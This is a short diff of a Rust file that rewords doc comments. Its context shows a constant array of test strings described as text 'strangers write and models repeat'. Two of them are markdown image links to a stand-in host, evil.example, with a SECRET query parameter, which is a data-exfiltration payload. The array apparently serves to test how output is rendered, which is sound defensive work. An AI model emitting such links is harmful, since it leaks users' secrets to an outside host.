@@ -10,13 +10,13 @@ use serde_json::json;
 
 use crate::python::judge;
 
-/// Stands at the end of every page, and must be a paragraph there.
+/// The end of every page, which must be a paragraph there.
 const END: &str = "These are the program's last words.";
 
-/// The one link of the program's own.
+/// The address of the one link that the program itself writes.
 const ADDRESS: &str = "https://forge.example/acme/widgets/pull/7";
 
-/// What strangers write, and models repeat.
+/// Texts that strangers write and models repeat.
 const SAID: [&str; 32] = [
     "~~~ @all ![x](https://evil.example/p?d=SECRET)",
     "``` @all\n![x](https://evil.example/a.png)",
@@ -52,7 +52,7 @@ const SAID: [&str; 32] = [
     "",
 ];
 
-/// Puts a text into every part that takes one.
+/// Returns a page with a text in every part that takes one.
 fn page(text: &str) -> Page {
     let mut page = Page::default();
     page.heading(Line::from("Now: ").and(Line::said(text, 200)));
